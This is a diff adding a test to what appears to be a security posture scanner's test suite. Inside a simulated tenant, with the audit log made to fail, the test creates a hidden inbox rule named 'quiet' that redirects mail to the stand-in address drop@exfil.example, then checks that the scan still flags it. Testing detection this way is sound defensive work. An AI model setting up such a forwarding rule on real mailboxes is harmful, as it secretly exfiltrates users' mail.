@@ -80,4 +80,25 @@ describe('posture drift --incremental', () => {
     expect(old.result.mode).toEqual({ kind: 'full', reason: expect.stringMatching(/older than its delta links live/) });
     expect((await incrementalRun(s, m, after.result.state, { period: 4 })).result.mode.kind).toBe('full');
   });
+
+  it('when the audit log cannot be read, every mailbox is read again: a rule change is never missed for want of its record', async () => {
+    sim = await startSimulator({ scenario: 'compliant', generate: { mailboxes: 30 } });
+    const s = sim;
+    s.clock.set('2026-06-01T01:00:00Z');
+    const first = await incrementalRun(s, m, undefined, { period: 7 });
+    s.tenant.auditLogSearch.settings.loseRecords = true;
+    const mailbox = [...s.tenant.exchange.Mailbox.values()][10]!;
+    const rule = await graph(s, 'POST', `/v1.0/users/${String(mailbox['ExternalDirectoryObjectId'])}/mailFolders/inbox/messageRules`, {
+      body: { displayName: 'quiet', sequence: 1, actions: { redirectTo: [{ emailAddress: { address: 'drop@exfil.example' } }] } },
+    });
+    expect(rule.status).toBe(201);
+    s.tenant.auditLogSearch.outcome = 'failed';
+    s.clock.advance(HOUR);
+    const inc = await incrementalRun(s, m, first.result.state, { period: 7 });
+    expect(inc.result.mode).toEqual({ kind: 'incremental' });
+    expect(inc.result.audit?.problem).toMatch(/failed/);
+    expect(inc.result.mailboxesRead).toBe(inc.result.mailboxesKept);
+    expect(inc.findings).toBe((await fullRun(s, m)).findings);
+    expect(inc.findings).toContain('quiet');
+  });
 });
